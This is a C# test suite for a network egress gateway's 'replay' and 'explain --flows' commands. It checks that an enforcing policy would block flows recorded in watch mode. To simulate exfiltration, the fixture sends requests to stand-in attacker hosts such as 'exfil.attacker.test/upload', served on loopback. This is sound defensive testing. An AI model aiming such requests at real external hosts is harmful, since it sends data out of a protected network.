using System.IO.Compression;
using System.Text.Json;
using System.Text.Json.Nodes;
using Corral.Testing;

namespace Corral.Cli.Tests;

/// <summary>
/// <c>corral replay</c> and <c>corral explain --flows</c> on flow logs written by the real gateway: the Foundry pack in
/// watch mode records what it let through, and replaying those records against the enforcing pack says what promotion
/// would block.
/// </summary>
public sealed class ReplayCommandTests
{
    private static readonly string[] StandIn = ["--public-standin", "127.0.0.0/8"];

    /// <summary>A gateway on the Foundry pack in watch mode, after one platform flow and one exfiltration flow; the enforcing pack beside it.</summary>
    private static async Task<(GatewayHarness Gateway, string EnforcingPolicy, LoopbackUpstream Upstream)> WatchedTrafficAsync()
    {
        var upstream = LoopbackUpstream.Start(443, "mcr.microsoft.com", "exfil.attacker.test");
        var gw = GatewayHarness.Foundry($"{upstream.EndPoint.Address} mcr.microsoft.com exfil.attacker.test\n", watch: true);
        foreach (var url in (string[])["https://mcr.microsoft.com/v2/", "https://exfil.attacker.test/upload", "https://exfil.attacker.test/upload2"])
        {
            using var client = gw.Client(upstream.Certificate); // a connection (so a flow) each
            await client.GetStringAsync(url);
        }
        await gw.WaitForRecordsAsync(rs => rs.Count(r => r.GetProperty("event").GetString() == "close") >= 3);
        var enforcing = Path.Combine(gw.Folder, "enforce.yaml");
        Assert.Equal(0, Run(out _, "init", "--template", "azure-foundry", "--enforce", "-o", enforcing, "--agent-subnet", "127.0.0.0/8"));
        return (gw, enforcing, upstream);
    }

    private static int Run(out string stdout, params string[] args) => Run(out stdout, out _, args);

    private static int Run(out string stdout, out string stderr, params string[] args)
    {
        (var code, stdout, stderr) = CorralInProcess.Run(args);
        return code;
    }

    [Fact]
    public async Task Decision_records_carry_the_schema_version_and_every_fact_decide_used()
    {
        var (gw, _, upstream) = await WatchedTrafficAsync();
        await using var _g = gw;
        await using var _u = upstream;
        var decision = gw.ReadRecords().First(r => r.GetProperty("event").GetString() == "decision" && r.GetProperty("host").GetString() == "exfil.attacker.test");
        Assert.Equal(2, decision.GetProperty("v").GetInt32());
        var facts = decision.GetProperty("facts");
        Assert.Equal("exfil.attacker.test", facts.GetProperty("host").GetString());
        Assert.Equal(upstream.EndPoint.Address.ToString(), Assert.Single(facts.GetProperty("addresses").EnumerateArray()).GetString());
        Assert.Equal(443, facts.GetProperty("port").GetInt32());
        Assert.Equal("tcp", facts.GetProperty("protocol").GetString());
        Assert.True(facts.GetProperty("tls").GetBoolean());
        Assert.Equal("127.0.0.1", facts.GetProperty("src").GetString());
        Assert.All(gw.ReadRecords(), r => Assert.Equal(2, r.GetProperty("v").GetInt32()));
    }

    [Fact]
    public async Task Replay_against_the_enforcing_pack_reports_the_watched_flows_it_would_block_and_gates_on_them()
    {
        var (gw, enforcing, upstream) = await WatchedTrafficAsync();
        await using var _g = gw;
        await using var _u = upstream;

        Assert.Equal(0, Run(out var json, ["replay", enforcing, "--flows", gw.FlowLogPath, "--json", .. StandIn]));
        var report = JsonDocument.Parse(json).RootElement;
        Assert.Equal(2, report.GetProperty("permit_to_deny").GetInt64());
        var change = report.GetProperty("changes").EnumerateArray().Single(c => c.GetProperty("enforcement").GetString() == "permit-to-deny");
        Assert.Equal("default-deny-internet", change.GetProperty("from").GetProperty("rule").GetString());
        Assert.False(change.GetProperty("from").GetProperty("enforced").GetBoolean());
        Assert.True(change.GetProperty("to").GetProperty("enforced").GetBoolean());
        var top = Assert.Single(change.GetProperty("top_destinations").EnumerateArray());
        Assert.Equal("exfil.attacker.test", top.GetProperty("host").GetString());
        Assert.Equal(upstream.EndPoint.Address.ToString(), top.GetProperty("address").GetString());
        Assert.Equal(2, top.GetProperty("count").GetInt64());
        // The platform flow changes mode only (a watched permit becomes an enforced one): a change, not a block.
        Assert.Contains(report.GetProperty("changes").EnumerateArray(), c => c.GetProperty("to").GetProperty("rule").GetString() == "allow-aca-fqdn"
            && c.GetProperty("enforcement").ValueKind == JsonValueKind.Null);

        Assert.Equal(3, Run(out var table, out var why, ["replay", enforcing, "--flows", gw.FlowLogPath, "--fail-on", "permit-to-deny", .. StandIn]));
        Assert.Contains("deny by default-deny-internet (watch)  ->  deny by default-deny-internet", table);
        Assert.Contains("exfil.attacker.test", table);
        Assert.Contains("2 recorded flow(s) would change", why);
        Assert.Equal(0, Run(out var markdown, ["replay", enforcing, "--flows", gw.FlowLogPath, "--markdown", .. StandIn]));
        Assert.Contains("| 2 | deny by default-deny-internet (watch) | deny by default-deny-internet | permit-to-deny |", markdown);

        // The policy that recorded the flows decides every one of them as it did.
        Assert.Equal(0, Run(out var same, ["replay", gw.PolicyPath, "--flows", gw.FlowLogPath, "--fail-on", "any", "--json", .. StandIn]));
        Assert.Equal(0, JsonDocument.Parse(same).RootElement.GetProperty("changed").GetInt64());
    }

    [Fact]
    public async Task Replay_reads_rotated_and_gzipped_files_counts_malformed_lines_and_says_which_facts_old_records_lacked()
    {
        var (gw, enforcing, upstream) = await WatchedTrafficAsync();
        await using var _g = gw;
        await using var _u = upstream;
        var lines = File.ReadAllLines(gw.FlowLogPath);
        var folder = Path.Combine(gw.Folder, "archive");
        Directory.CreateDirectory(folder);
        var live = Path.Combine(folder, "flows.jsonl");
        // The oldest rotation compressed, as logrotate leaves it; the live file with a torn line and a schema 1 record.
        using (var gz = new GZipStream(File.Create(live + ".1.gz"), CompressionLevel.Fastest))
        using (var writer = new StreamWriter(gz))
            foreach (var line in lines) writer.WriteLine(line);
        var exfil = JsonNode.Parse(lines.First(l => l.Contains("\"decision\"") && l.Contains("exfil.attacker.test")))!.AsObject();
        exfil.Remove("v");
        exfil.Remove("facts");
        File.WriteAllLines(live, [lines[0], "{\"v\":2,\"time\":\"2026-", exfil.ToJsonString(), "not json at all"]);

        Assert.Equal(0, Run(out var json, ["replay", enforcing, "--flows", live, "--json", .. StandIn]));
        var report = JsonDocument.Parse(json).RootElement;
        var decisions = lines.Count(l => !l.Contains("\"close\""));
        Assert.Equal(decisions + 2, report.GetProperty("records").GetInt64()); // the rotation's records, lines[0] (a decision) and the schema 1 record
        Assert.Equal(3, report.GetProperty("permit_to_deny").GetInt64());
        Assert.Equal(1, report.GetProperty("decided_without").GetProperty("tls").GetInt64());
        Assert.Equal(1, report.GetProperty("decided_without").GetProperty("all_addresses").GetInt64());
        var malformed = report.GetProperty("malformed");
        Assert.Equal(2, malformed.GetProperty("count").GetInt64());
        Assert.Equal([$"{live}:2", $"{live}:4"], malformed.GetProperty("first").EnumerateArray().Select(p => p.GetProperty("at").GetString()!).ToArray());

        Assert.Equal(1, Run(out _, out var strictError, ["replay", enforcing, "--flows", live, "--strict", .. StandIn]));
        Assert.Contains($"{live}:2:", strictError);
    }

    [Fact]
    public async Task Explain_flows_answers_every_line_with_one_compile_and_marks_bad_lines()
    {
        var (gw, enforcing, upstream) = await WatchedTrafficAsync();
        await using var _g = gw;
        await using var _u = upstream;
        var questions = Path.Combine(gw.Folder, "questions.jsonl");
        File.WriteAllLines(questions,
        [
            """{"src":"127.0.0.1","dst":"mcr.microsoft.com"}""",
            """{"src":"127.0.0.1","dst":"attacker.example","port":443}""",
            """{"src":"127.0.0.1"}""",
            """{"src":"127.0.0.1","dst":"mcp.contoso.com","resolved":["10.30.0.7"]}""",
        ]);
        Assert.Equal(1, Run(out var output, out var error, "explain", enforcing, "--flows", questions));
        var answers = output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Equal(4, answers.Count);
        Assert.Equal("allow-aca-fqdn", answers[0].GetProperty("rule").GetString());
        Assert.Equal("default-deny-internet", answers[1].GetProperty("rule").GetString());
        Assert.Equal(3, answers[2].GetProperty("line").GetInt32());
        Assert.Contains("\"dst\"", answers[2].GetProperty("error").GetString());
        Assert.Equal("deny", answers[3].GetProperty("action").GetString()); // rebinding to a spoke address is never permitted by name
        Assert.Contains("1 of 4 line(s)", error);

        // The gateway's own flow log as input: each decision and request record decided again beside what was recorded.
        Assert.Equal(0, Run(out var fromLog, ["explain", gw.PolicyPath, "--flows", gw.FlowLogPath, .. StandIn]));
        var verdicts = fromLog.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Equal(gw.ReadRecords().Count(r => r.GetProperty("event").GetString() != "close"), verdicts.Count);
        Assert.All(verdicts, v => Assert.Equal(v.GetProperty("recorded").GetProperty("rule").GetString(), v.GetProperty("rule").GetString()));
    }
}
